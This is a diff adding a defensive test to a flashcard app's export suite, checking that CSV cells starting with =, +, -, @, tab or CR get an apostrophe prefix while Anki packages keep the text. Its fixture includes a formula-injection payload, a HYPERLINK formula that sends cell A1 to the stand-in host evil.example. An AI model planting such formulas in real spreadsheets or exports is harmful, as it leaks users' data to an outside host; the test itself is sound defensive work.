@@ -5,13 +5,15 @@ import io
 import json
 import sqlite3
 import zipfile
+from dataclasses import replace
 from pathlib import Path
 
 from core.export import apkg_bytes, csv_bytes
 from core.i18n import translator
+from core.models import Deck
 from core.store import Card
 from storage.sqlite import open_store
-from tests.factories import deck
+from tests.factories import deck, phrase, word
 
 
 async def _cards(
@@ -74,3 +76,36 @@ async def test_the_anki_cards_name_the_part_of_speech_in_the_learners_language(
         models = json.loads(db.execute("SELECT models FROM col").fetchone()[0])
     answer_side = " ".join(t["afmt"] for m in models.values() for t in m["tmpls"])
     assert "이 장면 보기" in answer_side and "watch this moment" not in answer_side
+
+
+HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)")
+
+
+def _hostile_deck() -> Deck:
+    base = deck(words=(), phrases=())
+    words = tuple(
+        replace(word(f"w{i}"), lemma=text, meaning=text, sentence=text)
+        for i, text in enumerate(HOSTILE)
+    )
+    phrases = (replace(phrase("x"), text="\t=1+1", sentence="\r=1+1", meaning="- a dash"),)
+    return replace(base, words=words, phrases=phrases)
+
+
+async def test_csv_cells_never_start_a_formula_and_anki_keeps_the_text(tmp_path: Path) -> None:
+    """OWASP CSV injection: a cell starting with = + - @ tab or CR runs as a formula in a
+    spreadsheet. Such cells get a leading apostrophe in the CSV; Anki's package is untouched."""
+    async with open_store(tmp_path / "h.sqlite3") as store:
+        user = await store.get_or_create_user("telegram", "1", learner_language="ko", level="B1")
+        info = await store.save_deck(user.id, _hostile_deck())
+        cards = await store.deck_cards(user.id, info.id)
+    rows = list(csv.reader(io.StringIO(csv_bytes(cards).decode("utf-8"))))[1:]
+    cells = [cell for row in rows for cell in row if cell]
+    risky = [cell for cell in cells if cell[0] in "=+-@\t\r"]
+    assert risky == [], f"{len(risky)}/{len(cells)} cells start a formula"
+    fronts = sorted(row[1] for row in rows)
+    assert fronts == sorted(["'" + text for text in HOSTILE] + ["'\t=1+1"])
+    assert [row[3] for row in rows if row[0] == "phrase"] == ["'- a dash"]
+    fields = "\n".join(
+        f for _, f in _notes(await apkg_bytes(cards, deck_name="A", owner="1"), tmp_path)
+    )
+    assert "'" + "=HYPERLINK" not in fields and "=HYPERLINK" in fields, "Anki's text unchanged"
